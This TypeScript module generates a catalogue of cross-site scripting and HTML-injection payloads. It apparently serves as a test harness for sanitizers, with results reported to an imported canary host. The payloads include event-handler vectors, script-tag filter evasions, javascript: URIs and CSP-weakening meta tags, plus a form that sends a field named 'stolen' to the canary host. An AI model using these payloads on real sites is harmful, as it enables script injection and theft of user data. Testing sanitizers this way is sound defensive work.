import { canary } from './shots.ts'

/** HTML that does something where it is read as HTML, of the script that it should run. */
export type Payload = (shot: string) => string

/** Elements that tell of something by themselves: with what, and by which handler. */
const tellers = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload'],
  ['image', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['details', 'open', 'ontoggle'],
  ['video', 'src=x', 'onerror'],
  ['video', 'src=x', 'onloadstart'],
  ['audio', 'src=x', 'onerror'],
  ['video', 'poster=x autoplay', 'oncanplay'],
  ['input', 'autofocus', 'onfocus'],
  ['input', 'type=image src=x', 'onerror'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['div', 'tabindex=0 autofocus', 'onfocus'],
  ['div', 'contenteditable autofocus', 'onfocusin'],
  ['marquee', '', 'onstart'],
  ['marquee', 'loop=1 width=0', 'onfinish'],
  ['iframe', '', 'onload'],
  ['iframe', 'src=about:blank', 'onload'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', '', 'onload'],
  ['script', 'src=x', 'onerror'],
  ['track', 'src=x', 'onerror'],
  ['frameset', '', 'onload'],
  ['div', 'style=animation:1s;animation-name:x', 'onanimationstart'],
  ['div', 'style=transition:outline-1s', 'ontransitionend'],
  ['div', 'popover', 'onbeforetoggle'],
  ['div', 'style=width:9999px;overflow:scroll', 'onscrollend'],
  ['form', '', 'onformdata'],
  ['keygen', 'autofocus', 'onfocus'],
  ['p', '', 'onclick'],
  ['a', 'href=#', 'onclick'],
  ['b', '', 'onmouseover'],
  ['custom-element', 'tabindex=1', 'onpointerenter'],
] as const

const told = tellers.flatMap(([tag, with_, handler]): Payload[] => [
  (shot) => `<${tag} ${with_} ${handler}="${shot}">`,
  (shot) => `<${tag} ${with_} ${handler}=${shot.replaceAll(/\s/g, '/**/')} x>`,
  (shot) => `<${tag} ${with_} ${handler}='${shot.replaceAll("'", '`')}'>text</${tag}>`,
])

const scripts: readonly Payload[] = [
  (shot) => `<script>${shot}</script>`,
  (shot) => `<script type=module>${shot}</script>`,
  () => `<script src=//${canary}/a.js></script>`,
  (shot) => `<script>\n<!--\n${shot}\n//--></script>`,
  (shot) => `</script><script>${shot}</script>`,
  (shot) => `<script/x>${shot}</script >`,
  (shot) => `<script>${shot}`,
  (shot) => `"><script>${shot}</script>`,
  (shot) => `' autofocus onfocus='${shot.replaceAll("'", '`')}`,
  (shot) => `" onmouseover="${shot}" x="`,
  (shot) => `<<script>${shot}//<</script>`,
  (shot) => `<scr<script>ipt>${shot}</scr</script>ipt>`,
  (shot) => `<noscript><p title="</noscript><img src=x onerror=${shot.replaceAll(/\s/g, '')}>">`,
]

const frames: readonly Payload[] = [
  (shot) => `<iframe srcdoc="<script>${shot}</script>"></iframe>`,
  (shot) => `<iframe srcdoc='&lt;img src=x onerror=&quot;${shot.replaceAll("'", '&#39;')}&quot;&gt;'></iframe>`,
  (shot) => `<iframe src="javascript:${shot}"></iframe>`,
  (shot) => `<iframe src="data:text/html,<script>${shot}</script>"></iframe>`,
  (shot) => `<object data="javascript:${shot}"></object>`,
  (shot) => `<embed src="data:text/html,<script>${shot}</script>">`,
  (shot) => `<frameset><frame src="javascript:${shot}"></frameset>`,
  () => `<iframe src=//${canary}/frame></iframe>`,
  (shot) => `<portal src="javascript:${shot}"></portal>`,
]

const surroundings: readonly Payload[] = [
  (shot) => `<meta http-equiv="refresh" content="0;url=javascript:${shot}">`,
  () => `<meta http-equiv=refresh content="0;url=https://${canary}/">`,
  () => `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  (shot) => `<base href="javascript:${shot}//">`,
  () => `<base href=//${canary}/>`,
  (shot) => `<form action="javascript:${shot}"><input type=submit autofocus></form>`,
  (shot) => `<form id=f></form><button form=f formaction="javascript:${shot}">x</button>`,
  () => `<form action=//${canary}/><textarea name=stolen>`,
  (shot) => `<isindex action="javascript:${shot}" type=image>`,
  () => `<link rel=stylesheet href=//${canary}/a.css>`,
  () => `<link rel=prefetch href=//${canary}/>`,
  () => `<style>@import '//${canary}/a.css';</style>`,
  () => `<style>*{background:url(//${canary}/a)}</style>`,
  () => `<div style="background:url(//${canary}/b)">x</div>`,
  (shot) => `<div style="background:url(javascript:${shot})">x</div>`,
  (shot) => `<div style="width:expression(${shot})">x</div>`,
  () => `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  () => `<img src=//${canary}/pixel.gif>`,
  () => `<img srcset="//${canary}/a 1x, //${canary}/b 2x">`,
  () => `<video poster=//${canary}/p><source src=//${canary}/v></video>`,
  () => `<table background=//${canary}/t><td background=//${canary}/u>`,
  () => `<img name=getElementById><form name=body><input name=attributes>`,
  () => `<a id=config href=//${canary}/></a><a id=config name=url href=//${canary}/></a>`,
]

export const tags: readonly Payload[] = [...told, ...scripts, ...frames, ...surroundings]
